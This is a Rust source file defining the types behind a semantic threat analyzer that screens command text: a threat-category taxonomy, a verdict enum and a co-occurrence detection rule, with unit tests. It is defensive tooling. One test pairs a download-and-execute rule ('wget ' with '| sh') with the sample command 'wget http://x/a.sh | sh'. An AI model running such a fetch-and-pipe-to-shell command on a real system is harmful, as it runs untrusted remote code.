//! Core types for semantic threat analysis.

use serde::{Deserialize, Serialize};

/// Named threat categories the analyzer screens for.
///
/// The taxonomy is closed: every semantic denial names exactly one of
/// these categories, and audit consumers can rely on the serialized
/// names staying stable.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum ThreatCategory {
    /// Gaining rights beyond the current principal.
    PrivilegeEscalation,
    /// Reaching other hosts from the compromised one.
    LateralMovement,
    /// Moving data off the host.
    DataExfiltration,
    /// Harvesting stored or in-memory credentials.
    CredentialTheft,
    /// Hiding intent behind encoding or indirection.
    Obfuscation,
    /// Surviving a reboot or session end.
    Persistence,
    /// Irreversibly damaging host state.
    DestructiveOperation,
    /// Fetching and running code from elsewhere.
    RemoteCodeExecution,
}

impl std::fmt::Display for ThreatCategory {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let name = match self {
            Self::PrivilegeEscalation => "privilege escalation",
            Self::LateralMovement => "lateral movement",
            Self::DataExfiltration => "data exfiltration",
            Self::CredentialTheft => "credential theft",
            Self::Obfuscation => "obfuscation",
            Self::Persistence => "persistence",
            Self::DestructiveOperation => "destructive operation",
            Self::RemoteCodeExecution => "remote code execution",
        };
        f.write_str(name)
    }
}

/// Outcome of semantic analysis.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case", tag = "verdict")]
pub enum SemanticVerdict {
    /// No threat category or combination rule matched.
    Clean,
    /// A category pattern or combination rule matched.
    Violation {
        /// The threat category that matched.
        category: ThreatCategory,
        /// Human-readable description of what matched and where.
        detail: String,
    },
}

impl SemanticVerdict {
    /// Returns true when no threat was found.
    #[must_use]
    pub fn is_clean(&self) -> bool {
        matches!(self, Self::Clean)
    }
}

/// A co-occurrence rule over raw command text.
///
/// Matches when the text contains any `first` trigger AND any `second`
/// trigger, case-insensitively. Triggers are plain substrings with no
/// ordering or proximity requirement; the rule set is policy data meant
/// to be tuned, not a complete detection grammar.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct CombinationRule {
    /// Name of the rule, used in denial messages.
    pub name: String,
    /// Category reported when this rule matches.
    pub category: ThreatCategory,
    /// First trigger set (e.g. download primitives).
    pub first: Vec<String>,
    /// Second trigger set (e.g. execute primitives).
    pub second: Vec<String>,
}

impl CombinationRule {
    /// Creates a new combination rule.
    pub fn new(
        name: impl Into<String>,
        category: ThreatCategory,
        first: Vec<String>,
        second: Vec<String>,
    ) -> Self {
        Self {
            name: name.into(),
            category,
            first,
            second,
        }
    }

    /// Returns true when `text` contains a trigger from both sets.
    ///
    /// Callers are expected to pass already-lowercased text; triggers
    /// are stored lowercase.
    pub fn matches(&self, lowered: &str) -> bool {
        self.first.iter().any(|t| lowered.contains(t.as_str()))
            && self.second.iter().any(|t| lowered.contains(t.as_str()))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_category_serialized_names() {
        let json = serde_json::to_string(&ThreatCategory::RemoteCodeExecution).unwrap();
        assert_eq!(json, "\"remote_code_execution\"");
    }

    #[test]
    fn test_verdict_clean() {
        assert!(SemanticVerdict::Clean.is_clean());
        assert!(!SemanticVerdict::Violation {
            category: ThreatCategory::Obfuscation,
            detail: "x".to_string(),
        }
        .is_clean());
    }

    #[test]
    fn test_combination_rule_requires_both_sets() {
        let rule = CombinationRule::new(
            "download_and_execute",
            ThreatCategory::RemoteCodeExecution,
            vec!["wget ".to_string()],
            vec!["| sh".to_string()],
        );
        assert!(rule.matches("wget http://x/a.sh | sh"));
        assert!(!rule.matches("wget http://x/a.sh -o a.sh"));
        assert!(!rule.matches("cat a.sh | sh"));
    }

    #[test]
    fn test_combination_rule_serialization() {
        let rule = CombinationRule::new(
            "test",
            ThreatCategory::DataExfiltration,
            vec!["a".to_string()],
            vec!["b".to_string()],
        );
        let json = serde_json::to_string(&rule).unwrap();
        assert!(json.contains("data_exfiltration"));
    }
}
